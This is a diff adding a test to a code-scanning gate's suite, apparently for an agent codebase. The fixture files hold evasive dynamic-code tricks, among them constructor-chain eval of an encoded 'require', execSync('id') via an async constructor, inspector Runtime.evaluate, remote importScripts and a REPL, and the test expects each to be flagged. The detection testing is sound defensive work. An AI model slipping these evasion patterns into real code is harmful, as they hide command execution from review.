@@ -47,4 +47,25 @@ describe("code run from a string fails the gate", () => {
       "scan/shell-command:agent/worker.js:3:5",
     ]);
   });
+
+  it("scan/dynamic-code and scan/shell-command: the Function constructor reached through `constructor`, an inspector session's Runtime.evaluate, a REPL, importScripts, process.dlopen, Python's code.interact and a name destructured over fail the built Action at each", async () => {
+    const pr = await pullRequest((dir) => {
+      writeFileSync(join(dir, "agent/escape.js"), '[].constructor.constructor(atob("cmVxdWlyZQ=="))();\n(async () => {}).constructor(\'require("child_process").execSync("id")\')();\n');
+      writeFileSync(join(dir, "agent/inspect.js"), 'const s = new (require("node:inspector").Session)();\ns.connect();\ns.post("Runtime.evaluate", { expression: atob("cmVxdWlyZQ==") });\n');
+      writeFileSync(join(dir, "agent/loaders.js"), 'require("repl").start("> ");\nimportScripts("https://x.example/w.js");\nprocess.dlopen(module, "./addon.node");\nlet n = "path";\n({ n } = JSON.parse(input));\nrequire(n);\n');
+      writeFileSync(join(dir, "agent/console.py"), "import code\n\ncode.interact()\n");
+    });
+    const r = await gate(api, pr);
+    expect(r.code).toBe(1);
+    expect(r.commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /title=([^,]+),file=([^,]+),line=(\d+),endLine=\d+,col=(\d+)/.exec(c)!.slice(1).join(":"))).toEqual([
+      "scan/dynamic-code:agent/console.py:3:1",
+      "scan/dynamic-code:agent/escape.js:1:1",
+      "scan/shell-command:agent/escape.js:2:1",
+      "scan/dynamic-code:agent/inspect.js:3:1",
+      "scan/dynamic-code:agent/loaders.js:1:1",
+      "scan/dynamic-code:agent/loaders.js:2:1",
+      "scan/dynamic-code:agent/loaders.js:3:1",
+      "scan/dynamic-code:agent/loaders.js:6:1",
+    ]);
+  });
 });
